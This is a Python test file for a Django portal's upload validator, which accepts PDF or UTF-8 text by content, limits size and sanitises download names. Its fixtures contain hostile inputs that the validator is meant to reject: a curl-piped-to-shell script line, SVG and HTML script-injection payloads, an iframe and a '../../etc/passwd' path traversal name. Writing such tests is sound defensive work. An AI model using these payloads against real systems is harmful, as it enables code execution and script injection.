"""Documents are PDF or UTF-8 text by their content, size-limited, and served only as downloads."""

import hashlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile

from portal.errors import PortalError
from vendors.demo import demo_pdf
from vendors.uploads import MAX_DOCUMENT_BYTES, safe_download_name, validate_document


def test_a_pdf_is_recognised_by_its_content_whatever_its_name():
    data = demo_pdf("Card", ["line"])
    content_type, sha256, size = validate_document(SimpleUploadedFile("card.txt", data))
    assert (content_type, sha256, size) == ("application/pdf", hashlib.sha256(data).hexdigest(), len(data))


def test_utf8_text_is_plain_text():
    content_type, _, _ = validate_document(SimpleUploadedFile("notes", "Évaluation: ok ✓\n".encode()))
    assert content_type == "text/plain"


@pytest.mark.parametrize(
    "data",
    [
        b"MZ\x90\x00\x03\x00\x00\x00",  # a Windows executable renamed to .pdf
        b"PK\x03\x04 zipped office document",
        "caf\u00e9".encode("latin-1"),  # not UTF-8
        b"text with a NUL \x00 byte",
        b"\x89PNG\r\n\x1a\n",
    ],
)
def test_anything_else_is_refused_with_a_message_on_the_file_field(data):
    with pytest.raises(PortalError, match="not a PDF or a plain-text") as exc:
        validate_document(SimpleUploadedFile("report.pdf", data, content_type="application/pdf"))
    assert exc.value.field == "file"


def test_an_empty_file_is_refused():
    with pytest.raises(PortalError, match="empty"):
        validate_document(SimpleUploadedFile("empty.pdf", b""))


def test_a_50_mb_upload_is_refused_with_its_size_and_the_limit():
    upload = TemporaryUploadedFile("big.pdf", "application/pdf", 50 * 1024 * 1024, None)
    upload.write(b"%PDF-1.4\n")
    upload.seek(50 * 1024 * 1024 - 1)
    upload.write(b"\0")
    upload.flush()
    upload.size = 50 * 1024 * 1024
    with pytest.raises(PortalError) as exc:
        validate_document(upload)
    assert "50.0 MB" in exc.value.message
    assert f"{MAX_DOCUMENT_BYTES // (1024 * 1024)}.0 MB" in exc.value.message
    upload.close()


def test_text_split_across_chunks_in_the_middle_of_a_character_is_still_text():
    data = ("é" * 40000).encode()  # 80,000 bytes; chunk boundaries fall inside characters
    upload = SimpleUploadedFile("long.txt", data)
    upload.DEFAULT_CHUNK_SIZE = 4097
    assert validate_document(upload)[0] == "text/plain"


def test_download_names_lose_paths_and_get_the_right_extension():
    assert safe_download_name("../../etc/passwd", "text/plain") == "passwd.txt"
    assert safe_download_name('evil".html', "application/pdf") == "evil.pdf"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"<!DOCTYPE html><html><body>Model card</body></html>", "web page, an SVG image or a script"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "web page, an SVG"),
        (b"\xef\xbb\xbf  <?xml version='1.0'?><svg/>", "web page, an SVG"),
        (b"#!/bin/sh\ncurl https://example.org | sh\n", "web page, an SVG image or a script"),
        (b"Findings.\n" * 10000 + b"<SCRIPT src=x></SCRIPT>", "web page, an SVG image or a script"),
        (b"Model card\n<iframe src='https://example.org'>", "web page, an SVG image or a script"),
        (b"%PDF-1.4\n<svg onload=alert(1)>", "not a whole PDF document"),
        (b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\n", "not a whole PDF document"),
        (b"%PDF-x\n1 0 obj\n<< >>\nendobj\nstartxref\n9\n%%EOF\n", "not a whole PDF document"),
    ],
)
def test_markup_scripts_and_broken_pdfs_are_refused_whatever_their_name(data, message):
    with pytest.raises(PortalError, match=message):
        validate_document(SimpleUploadedFile("evidence.pdf", data, content_type="application/pdf"))


def test_plain_text_that_mentions_angle_brackets_is_still_text():
    data = "Seats < 200 and regions > 1; see § 4 — évaluation ✓\n".encode()
    assert validate_document(SimpleUploadedFile("notes.txt", data))[0] == "text/plain"
